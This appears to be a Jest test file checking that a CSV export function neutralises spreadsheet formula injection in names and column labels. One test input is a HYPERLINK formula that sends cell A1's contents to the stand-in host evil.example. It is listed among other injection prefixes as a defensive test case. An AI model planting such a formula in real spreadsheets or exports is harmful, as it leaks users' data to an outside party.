import { describe, expect, it } from '@jest/globals';
import { tableToCsv } from './csv';

describe(tableToCsv.name, () => {
  const table = (names: string[]) => ({
    title: 'Staff activity',
    columns: [
      { key: 'name', label: 'Salesperson', kind: 'text' as const },
      { key: 'moves', label: 'Moves', kind: 'count' as const },
    ],
    rows: names.map((name, i) => ({ name, moves: -i })),
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  ])('should defuse a name starting %j and keep numbers as numbers', (name) => {
    const [, row] = tableToCsv(table([name])).split('\r\n');
    expect(row.replace(/^"/, '').startsWith("'")).toBe(true);
    expect(row.endsWith(',0')).toBe(true);
  });

  it('should defuse a column label too and end every record with CRLF', () => {
    const csv = tableToCsv({
      ...table(['Aino', 'Eero']),
      columns: [{ key: 'name', label: '=x', kind: 'text' }],
    });
    expect(csv).toBe(`"'=x"\r\nAino\r\nEero\r\n`);
  });
});
